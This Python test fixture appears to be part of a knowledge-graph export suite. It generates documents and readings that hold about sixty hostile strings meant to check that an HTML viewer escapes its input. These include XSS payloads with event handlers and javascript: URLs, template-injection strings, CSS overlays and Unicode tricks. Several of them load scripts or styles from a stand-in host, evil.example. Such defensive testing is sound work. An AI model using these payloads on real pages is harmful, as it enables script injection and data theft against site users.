"""Words that would do harm in a page that took them for more than words: sixty and more, and documents that say them."""

from __future__ import annotations

from pathlib import Path

from kg.model import Reading
from tests.exports.explorer_graphs import HOSTILE, hostile_readings

EVIL = "evil.example"
"""Where nothing may ever ask."""

WORDS = (
    *HOSTILE,
    "<svg><script>window.hacked=1</script></svg>",
    "<math><mtext></p><img src onerror=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<body onload=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<marquee onstart=window.hacked=1>",
    "<object data='javascript:parent.hacked=1'></object>",
    "<embed src='javascript:window.hacked=1'>",
    "<form action=https://evil.example/><button>交</button></form>",
    "<iframe src=https://evil.example/></iframe>",
    "<script src=https://evil.example/a.js></script>",
    "<p style=position:fixed;inset:0;background:red>盖",
    '<div style="background:url(https://evil.example/b)">背景</div>',
    "</p></li></ul></div></section></main></body></html>",
    "--><script>window.hacked=1</script><!--",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "javascript:window.hacked=1",
    "' onmouseover='window.hacked=1",
    '" autofocus onfocus="window.hacked=1',
    "</textarea><script>window.hacked=1</script>",
    "</noscript><img src=x onerror=window.hacked=1>",
    "{{constructor.constructor('window.hacked=1')()}}",
    "<a href='data:text/html,<script>opener.hacked=1</script>'>点</a>",
    "<plaintext>",
    "<template><script>window.hacked=1</script></template>",
    "@import url(https://evil.example/c.css);",
    "}*{visibility:hidden!important}",
    "\u202e</title><script>window.hacked=1</script>\u202c",
    "甲" + "\u0301" * 500,
    "\u3164\u115f\u180e",
    "W" * 100_000,
)


def documents(folder: Path) -> Path:
    """A folder of texts, one for each: in its name, its title, a name that a form makes, a title in 《》 and a sentence."""
    for at, words in enumerate(WORDS):
        said = words.encode("utf-8", "replace").decode()
        name = "".join(char for char in said if char.isprintable() and char != "/")[:40]
        short = said[:500]  # of an endless one the title is enough
        (folder / f"{at:02} {name}.txt").write_text(
            f"{said}\n\n白鹭市总工会组织实施“{short}”专项行动。{short}。\n"
            f"根据《{short}》，瀛洲省教育厅制定《{short}实施办法》。\n",
            encoding="utf-8",
        )
    return folder


def by_hand() -> list[Reading]:
    """Readings in which each is the name of a body and of a law, a sentence, a path, a title and the id of a rule."""
    return [one for one in hostile_readings(WORDS) if "\ud800" not in one.document.path]  # no folder has such
